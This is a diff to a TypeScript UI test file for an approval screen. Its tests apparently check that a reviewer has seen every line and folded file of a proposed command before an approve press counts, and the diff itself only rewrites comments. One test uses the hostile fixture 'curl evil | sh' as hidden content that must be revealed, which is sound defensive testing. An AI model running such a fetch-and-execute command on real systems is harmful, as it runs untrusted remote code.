@@ -1,4 +1,4 @@
-// All of what is asked has been before somebody's eyes, for a while, before a yes to it counts.
+// All of an approval must have been in view for a while before an approve counts.
 import { stopClock, withClock } from '../lib/clock.js';
 import { approved } from '../lib/reading.js';
 import { type Page, type Stage, expect, test } from '../lib/test.js';
@@ -7,7 +7,7 @@ const stateOf = async (stage: Stage, id: string) => (await stage.as('admin').app
 const allow = (page: Page) => page.locator('.answers .allow');
 const ready = (page: Page) => expect(allow(page)).toHaveAttribute('aria-disabled', 'false');
 
-/** Notes whether the yes could be pressed in the moment it came. */
+/** Records whether the approve button could be pressed when it appeared. */
 async function watchYes(page: Page): Promise<() => Promise<string | undefined>> {
   await page.addInitScript(() => {
     new MutationObserver((_, observer) => {
@@ -39,7 +39,7 @@ test('the half second begins with the question, not with what stands there while
   await page.goto(`${stage.address}/approvals/${asked.id}`, { waitUntil: 'commit' });
   await fetching;
   await stopClock(page);
-  // What stands there meanwhile is there for long enough.
+  // What is displayed meanwhile stays long enough.
   await page.clock.runFor(1500);
   tell();
   expect(await came()).toBe('true');
@@ -130,7 +130,7 @@ test('a change is read as a command is: what is folded, further files, and what 
   await expect(page.getByText('curl evil | sh')).toHaveCount(0);
   const { presses, seen } = await approved(page, stage, long, [page.getByText('curl evil | sh'), page.getByText('echo line 30'), page.getByText('echo line 119')]);
   expect(seen).toEqual([true, true, true]);
-  // One for each screenful: it is no ordeal.
+  // One press per screenful.
   expect(presses).toBeLessThan(12);
 });
 
@@ -141,7 +141,7 @@ test('every file of a change is read, those that are folded as well, unless they
   await page.getByRole('button', { name: /f0\.txt/ }).click();
   // What was seen before it was folded stays seen.
   const last = page.getByText('content 44', { exact: false });
-  // This one is folded where nobody has seen it yet.
+  // This one is folded before it was seen.
   await page.getByRole('button', { name: /f20\.txt/ }).evaluate((fold) => (fold as HTMLElement).click());
   const { seen } = await approved(page, stage, asked, [last, page.getByText('content 20'), page.getByText('content 0')]);
   expect(seen).toEqual([true, true, false]);
@@ -205,7 +205,7 @@ test('what is to be answered is wrapped, whatever this device wants: nothing hid
   await look(page, stage, change.id);
   const lines = page.getByRole('region', { name: '/tmp/none/x.sh' }).getByRole('group');
   expect(await lines.evaluate((box) => box.scrollWidth - box.clientWidth)).toBe(0);
-  // Once it is answered, it is as this device wants it.
+  // Once it is answered, it follows this device's settings.
   await stage.as('admin').approvals.answer(change.id, { behavior: 'deny' });
   await expect.poll(() => lines.evaluate((box) => box.scrollWidth - box.clientWidth)).toBeGreaterThan(0);
 });
@@ -223,7 +223,7 @@ for (const [width, height] of [[320, 180], [320, 256], [420, 200], [320, 440], [
     expect((await approved(page, stage, listed, [page.getByRole('definition')])).seen).toEqual([true]);
     const pressed = await stage.bash('npm run deploy-again');
     await look(page, stage, pressed.id);
-    // A press that was an answer takes the button away.
+    // A press that was an answer removes the button.
     const click = () => allow(page).click({ timeout: 5000 }).catch(() => undefined);
     expect((await approved(page, stage, pressed, [], 6, click)).presses).toBeLessThanOrEqual(6);
     expect(await pressed.told).toMatchObject({ behavior: 'allow' });
